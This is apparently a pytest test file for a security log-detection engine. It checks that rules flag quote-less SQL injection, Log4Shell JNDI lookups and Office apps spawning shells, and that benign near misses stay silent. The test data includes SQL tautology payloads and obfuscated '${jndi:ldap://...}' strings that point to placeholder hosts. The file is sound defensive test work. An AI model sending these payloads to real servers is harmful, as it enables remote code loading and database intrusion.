"""SQL injection without a quote, Log4Shell lookups and Office starting a shell: exact lines.

Each case is a real log line (nginx, IIS, Sysmon JSON) parsed by its family's parser and
evaluated with every bundled rule through the ``ecs`` pipeline; the near misses beside the
attacks must fire nothing.
"""

from __future__ import annotations

from functools import cache
from pathlib import Path

import orjson
import polars as pl
import pytest

from detect import CompiledRuleSet, load_rules
from ingest.parsers import parse_endpoint, parse_web

RULES = Path(__file__).resolve().parents[2] / "rules"
SQLI = "web_sql_injection_numeric_tautology"
LOG4SHELL = "web_log4shell_jndi_lookup"
OFFICE = "proc_creation_win_office_spawns_shell"
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0.0.0"
IIS_FIELDS = (
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"
)


@cache
def _ruleset() -> CompiledRuleSet:
    return CompiledRuleSet.compile(load_rules([RULES]).rules, pipeline="ecs")


def _fired(events: pl.DataFrame) -> list[set[str]]:
    rules = _ruleset().rules
    fired: list[set[str]] = [set() for _ in range(events.height)]
    for row, index in _ruleset().evaluate(events).select("row", "rule_index").iter_rows():
        fired[row].add(Path(rules[index].path).stem)
    return fired


def _nginx(request: str, *, agent: str = UA, referrer: str = "-") -> set[str]:
    line = (
        f'203.0.113.9 - - [04/Dec/2026:10:00:00 +0700] "{request} HTTP/1.1" 200 512 '
        f'"{referrer}" "{agent}"'
    )
    parsed = parse_web(pl.Series([line]), year=2026)
    assert parsed.dead.height == 0
    return _fired(parsed.events)[0]


def _iis(stem: str, query: str, agent: str = "Mozilla/5.0") -> set[str]:
    line = (
        f"2026-12-04 03:00:00 10.40.100.22 GET {stem} {query} 443 - 203.0.113.9 {agent} "
        "- 200 0 0 41"
    )
    parsed = parse_web(pl.Series([IIS_FIELDS, line]), year=2026)
    assert parsed.events.height == 1
    return _fired(parsed.events)[0]


def _process(parent: str, image: str, command: str) -> set[str]:
    event = {
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": "mef-fin-ws-004.mef.gov.kh",
        "UtcTime": "2026-12-04 03:00:00.000",
        "Image": image,
        "CommandLine": command,
        "ParentImage": parent,
        "User": "MEF\\sokha.chan",
    }
    parsed = parse_endpoint(pl.Series([orjson.dumps(event).decode()]))
    assert parsed.dead.height == 0
    return _fired(parsed.events)[0]


@pytest.mark.parametrize(
    "request_line",
    [
        "GET /news?id=5%20OR%201=1--",
        "GET /news?id=5%20or%201%3D1",
        "GET /news?cat=2&id=5+AND+1=2",
        "GET /news?id=5%20OR%202%3E1--",
        "GET /news?id=5%20OR%20(1)=(1)",
    ],
)
def test_sql_injection_without_a_quote_fires(request_line: str) -> None:
    assert _nginx(request_line) == {SQLI}


@pytest.mark.parametrize(
    "request_line",
    [
        "GET /news?id=5",
        "GET /search?q=black%20or%20white",
        "GET /search?q=rice%20and%20fish&page=2",
        "GET /search?q=grade%2012%20or%20grade%2011",
        "GET /news?id=5&sort=date%20and%20title",
    ],
)
def test_numbers_and_the_word_or_alone_do_not_fire(request_line: str) -> None:
    assert _nginx(request_line) == set()


def test_sql_injection_without_a_quote_in_iis() -> None:
    assert _iis("/eServices/News", "id=5+OR+1=1--") == {SQLI}
    assert _iis("/eServices/News", "id=5") == set()


@pytest.mark.parametrize(
    ("request_line", "agent", "referrer"),
    [
        ("GET /", "${jndi:ldap://198.51.100.7:1389/a}", "-"),
        ("GET /", UA, "${${::-j}${::-n}di:rmi://198.51.100.7/a}"),
        ("GET /?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D", UA, "-"),
        ("GET /?x=%24%7B%24%7Blower%3Aj%7Dndi%3Adns%3A%2F%2Fe.example%2Fa%7D", UA, "-"),
        ("GET /$%7Bjndi:ldap://198.51.100.7/a%7D", UA, "-"),
        ("GET /", "${${lower:j}ndi:ldap://198.51.100.7/a}", "-"),
        ("GET /", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://198.51.100.7/a}", "-"),
    ],
)
def test_log4shell_in_any_request_field_fires(request_line: str, agent: str, referrer: str) -> None:
    assert _nginx(request_line, agent=agent, referrer=referrer) == {LOG4SHELL}


@pytest.mark.parametrize(
    ("request_line", "agent"),
    [
        ("GET /docs/shell?var=${HOME}", UA),
        ("GET /docs/shell?var=%24%7BHOME%7D", UA),
        ("GET /", "curl/8.5.0 ${PATH}"),
        ("GET /templates/%7Bname%7D", UA),
    ],
)
def test_shell_variables_and_braces_do_not_fire(request_line: str, agent: str) -> None:
    assert _nginx(request_line, agent=agent) == set()


def test_log4shell_in_an_iis_user_agent() -> None:
    assert _iis("/", "-", "${jndi:ldap://198.51.100.7/a}") == {LOG4SHELL}


OFFICE16 = r"C:\Program Files\Microsoft Office\root\Office16"
SYSTEM32 = r"C:\Windows\System32"


@pytest.mark.parametrize(
    ("parent", "child"),
    [
        ("WINWORD.EXE", "cmd.exe"),
        ("EXCEL.EXE", "mshta.exe"),
        ("POWERPNT.EXE", "wscript.exe"),
        ("OUTLOOK.EXE", "cscript.exe"),
        ("EXCEL.EXE", "regsvr32.exe"),
        ("WINWORD.EXE", "rundll32.exe"),
    ],
)
def test_office_starting_a_shell_or_script_host_fires(parent: str, child: str) -> None:
    fired = _process(rf"{OFFICE16}\{parent}", rf"{SYSTEM32}\{child}", f"{child} /c x")
    assert fired == {OFFICE}


@pytest.mark.parametrize(
    ("parent", "image"),
    [
        (r"C:\Windows\explorer.exe", rf"{OFFICE16}\WINWORD.EXE"),
        (r"C:\Windows\explorer.exe", rf"{SYSTEM32}\cmd.exe"),
        (rf"{OFFICE16}\WINWORD.EXE", rf"{OFFICE16}\EXCEL.EXE"),
        (rf"{OFFICE16}\OUTLOOK.EXE", r"C:\Program Files\Google\Chrome\Application\chrome.exe"),
    ],
)
def test_office_opening_documents_and_explorer_shells_do_not_fire(parent: str, image: str) -> None:
    assert _process(parent, image, rf'"{image}" /n "C:\Users\a\Report.docx"') == set()
